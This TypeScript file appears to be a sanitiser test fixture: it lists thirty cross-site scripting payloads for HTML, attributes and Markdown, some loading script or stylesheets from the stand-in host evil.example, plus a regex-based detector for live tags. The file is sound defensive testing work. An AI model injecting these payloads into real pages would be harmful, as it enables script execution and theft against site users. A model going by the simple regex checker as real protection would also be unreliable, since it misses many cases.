/** Thirty ways in which text tried to become script, in HTML, attributes and Markdown. */
export const HOSTILE_TEXTS: readonly string[] = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.example/x.js></ScRiPt>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<body onload=alert(1)>",
  '<a href="javascript:alert(1)">x</a>',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<details open ontoggle=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<form action=javascript:alert(1)><button>x</button></form>",
  "<object data=javascript:alert(1)></object>",
  "<embed src=javascript:alert(1)>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<style>@import '//evil.example/x.css'</style>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<base href=//evil.example/>",
  '"><script>alert(1)</script>',
  "'\"><img src=x onerror=alert(1)>",
  "</textarea><script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  "]]><script>alert(1)</script>",
  "<!--><script>alert(1)</script>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt&colon;alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](vbscript:msgbox(1))",
  "![x](https://evil.example/pixel.png)",
  "[x]: javascript:alert(1)\n\n[x]",
];

const TAG = /<([a-z][\w-]*)((?:\s+[\w:@.-]+(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s"'>]+))?)*)\s*\/?>/giu;
const ATTRIBUTE = /([\w:@.-]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s"'>]+)))?/gu;
const FORBIDDEN = new Set(["iframe", "object", "embed", "base", "math", "style"]);
const ADDRESSES = new Set(["href", "src", "action", "data", "formaction", "xlink:href"]);

/** The first tag in this HTML that would run or load something; null when there is none. */
export function liveHtmlIn(html: string): string | null {
  const torn = html.replace(TAG, "").search(/<[a-z]/iu);
  if (torn >= 0) return html.replace(TAG, "").slice(torn, torn + 80);
  for (const [tag, name = "", attributes = ""] of html.matchAll(TAG)) {
    if (isLive(name.toLowerCase(), attributes)) return tag;
  }
  return null;
}

function isLive(name: string, text: string): boolean {
  const attributes = Array.from(text.matchAll(ATTRIBUTE), ([, key = "", a, b, c]) => [key, a ?? b ?? c ?? ""] as const);
  const ours = attributes.some(([key, value]) => key === "src" && value.startsWith("/assets/"));
  return (
    FORBIDDEN.has(name) ||
    (name === "script" && !ours) ||
    attributes.some(
      ([key, value]) =>
        /^on/iu.test(key) ||
        key.toLowerCase() === "http-equiv" ||
        (name !== "a" && value.includes("evil.example") && ADDRESSES.has(key.toLowerCase())) ||
        (ADDRESSES.has(key.toLowerCase()) && /^\s*(?:javascript|vbscript|data)\s*(?::|&colon;)/iu.test(value)),
    )
  );
}
